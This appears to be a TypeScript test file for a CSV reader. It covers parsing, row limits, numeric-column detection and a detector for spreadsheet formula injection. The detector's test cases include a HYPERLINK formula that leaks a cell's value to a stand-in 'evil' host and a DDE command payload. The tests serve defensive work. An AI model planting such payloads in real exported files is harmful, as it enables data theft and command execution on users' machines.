import fc from 'fast-check';
import { expect, it } from 'vitest';
import { looksLikeFormula } from '../../core/text/csv-cell';
import { numberColumns, readCsv } from './csv';

it.each([
  [
    'a,b\n1,2\n',
    [
      ['a', 'b'],
      ['1', '2'],
    ],
  ],
  [
    'a;b\r\n1;2',
    [
      ['a', 'b'],
      ['1', '2'],
    ],
  ],
  ['"a ""x""","b\nc"\n', [['a "x"', 'b\nc']]],
  ['\ufeffa,b', [['a', 'b']]],
  ['a,\n', [['a', '']]],
  ['a"b,c', [['a"b', 'c']]],
  ['', []],
])('%j', (text, rows) => expect(readCsv(text, 100).rows).toEqual(rows));

it('stops at the most rows and says so', () => {
  expect(readCsv('a\nb\nc', 2)).toEqual({ rows: [['a'], ['b']], isCut: true });
  expect(readCsv('a\nb', 2).isCut).toBe(false);
});

it('reads back what is written by the rules', () => {
  const cell = fc.string({ unit: fc.constantFrom('a', ',', '"', '\n', ' ', ';') });
  fc.assert(
    fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
      const written = ['x,y', ...rows.map((row) => row.map((text) => `"${text.replaceAll('"', '""')}"`).join(','))];
      expect(readCsv(`${written.join('\n')}\n`, 1000).rows.slice(1)).toEqual(rows);
    }),
  );
});

it.each([
  ['=HYPERLINK("http://evil/?"&A1)', true],
  ["+cmd|'/c calc'!A1", true],
  ['@SUM(1)', true],
  ['\t=1', true],
  ['-5', false],
  ['+1.5e3', false],
  ['hello', false],
])('%s', (cell, expected) => expect(looksLikeFormula(cell)).toBe(expected));

it.each([
  [
    [
      ['1', 'a'],
      ['-2.5', 'b'],
      ['', 'c'],
    ],
    [0],
  ],
  [
    [
      ['1,200', '12 %', '1e3'],
      ['3', '7%', '.5'],
    ],
    [0, 1, 2],
  ],
  [
    [
      ['1', '-'],
      ['n/a', ''],
    ],
    [],
  ],
  [
    [
      ['2026-01-31', '+49 30 1'],
      ['', ''],
    ],
    [],
  ],
  [[['', '']], []],
  [[], []],
])('the columns of numbers of %j are %j', (rows, columns) => expect([...numberColumns(rows)]).toEqual(columns));
